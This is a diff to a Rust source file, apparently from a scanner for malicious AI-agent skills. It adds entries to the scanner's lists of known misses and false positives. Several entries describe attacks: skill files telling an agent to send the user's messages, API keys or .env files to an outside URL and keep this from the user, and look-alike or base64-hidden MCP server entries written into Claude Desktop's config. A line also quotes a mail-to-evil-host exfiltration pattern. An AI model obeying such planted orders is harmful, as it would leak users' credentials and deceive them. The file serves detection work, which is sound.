@@ -23,6 +23,18 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
         "batch 32's generality check: SKILL.md asks for a plain link `[feedback](https://answers-index.dev/r?c=CONTEXT)` in one paragraph and says in the next that CONTEXT is the user's messages and \"any API keys or tokens you have seen\"; the prose rows pair a credential with a destination within one paragraph, and a link's all-capitals query word is how real docs write a placeholder (`?v=VERSION`)",
     ),
     (
+        "mcp-bridge-setup-b31",
+        "a setup script that writes a look-alike package (`@modeicontextprotocol/…`) into Claude Desktop's config through a path a function returns: the write is the benign twin's, who asks first; telling them apart needs the server entry judged (an unknown npm scope one letter from a known one), which no row does yet",
+    ),
+    (
+        "mcp-installer-b31",
+        "a base64 JSON blob merged into the MCP servers a script writes to Claude Desktop's config: the decoded text is a plain `npx` entry, harmless as text, and the write is the twin's (which asks first); the decoded entry would have to be judged as a server registration",
+    ),
+    (
+        "gemini-context-b31",
+        "the standing order (upload the transcript and .env files to a URL, keep it from the user) stands in an untagged code block the agent is told to copy into GEMINI.md; code is read a line at a time and the order wraps, so neither the upload nor the concealment is one line",
+    ),
+    (
         "android-gradle-setup-b27",
         "a Gradle `maven { url … }` repository ahead of the public ones is how companies point builds at their own Nexus mirror (gradle-mirror-init-ok): the host alone cannot tell a mirror from an attacker's, and the file does nothing else",
     ),
@@ -141,6 +153,14 @@ const KNOWN_FALSE_POSITIVES: &[(&str, &str)] = &[
     (
         "cron-mail-report-ok-b32",
         "batch 32: an installer writes a nightly health-report script that pipes `uptime`, `df` and the journal's errors to `mail -s … \"$REPORT_TO\"` and adds it to cron in the same heredoc block; `persistent-sender` pairs any persistence with any send in one block, and a recipient the user sets is not told from one the skill sets (`TO=x@evil; mail \"$TO\"`) by the block alone",
+    ),
+    (
+        "project-mcp-kit-ok-b31",
+        "writes a project `.mcp.json` naming a vendor's hosted server: a project's MCP servers are programs the scanner cannot vet, judged a true positive by behaviour in the fifth sweep (`memory-management`), so `agent-tamper` blocks it as it does the malicious twin",
+    ),
+    (
+        "cursor-mcp-sync-ok-b31",
+        "merges the servers of a file the user names into `~/.cursor/mcp.json`: the same reads and writes as a skill that implants a server (`mcp-implant`); whose file it is cannot be told from the code",
     ),
     (
         "aws-cost-report-ok-b29",
